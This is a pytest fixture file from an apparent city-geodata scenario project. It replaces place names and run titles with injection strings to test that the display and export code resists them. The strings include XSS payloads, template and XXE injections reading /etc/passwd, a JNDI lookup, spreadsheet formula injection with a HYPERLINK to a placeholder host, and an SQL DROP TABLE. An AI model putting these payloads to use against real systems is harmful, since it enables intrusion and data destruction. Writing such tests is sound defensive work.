"""A city whose names attack whatever shows them, with two runs."""

import runpy
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from geodata.city import City
from scenarios.runs import Run
from scenarios.scenario import Title

HANDMADE = runpy.run_path(str(Path(__file__).parents[1] / "scenarios" / "conftest.py"))
hand_city, hand_runs, whole_run = (HANDMADE[name] for name in ("hand_city", "hand_runs", "whole_run"))
ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</text><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "${jndi:ldap://x.example} %s {name} {0.__class__}",
    "\u202egnp.slipup\u202c",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    '=HYPERLINK("http://x.example","y")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\uff1d1+1",
    "'); DROP TABLE runs; --",
)


def renamed(city: City, number: int) -> City:
    """Return the city with every name an attack; the number says with which they begin."""

    def attack(place: int) -> str:
        return ATTACKS[(number + place) % len(ATTACKS)]

    tables = {}
    for start, table in enumerate(("districts", "schools", "sources")):
        frame = getattr(city, table).copy()
        for step, column in enumerate(("name", "name_zh")):
            frame[column] = [attack(3 * start + step + row) for row in range(len(frame))]
        tables[table] = frame
    return replace(city, name=attack(9), name_zh=attack(10), **tables)


def titled(runs: Sequence[Run], city: City, number: int) -> tuple[Run, ...]:
    """Return the runs with attacks as titles, as if made from this city."""
    texts = [ATTACKS[(number + place + 5) % len(ATTACKS)] for place in range(len(runs))]
    facts = city.fingerprint()
    return tuple(
        replace(
            run,
            scenario=run.scenario.model_copy(update={"title": Title(en=text, zh=text)}),
            provenance=replace(run.provenance, city=facts),
        )
        for run, text in zip(runs, texts, strict=True)
    )


@pytest.fixture(params=[0, 5, 10])
def hostile(
    request: pytest.FixtureRequest, hand_city: City, hand_runs: Sequence[Run]
) -> tuple[City, tuple[Run, ...]]:
    """City and runs, in turn with each attack somewhere where names stand."""
    city = renamed(hand_city, request.param)
    return city, titled(hand_runs, city, request.param)
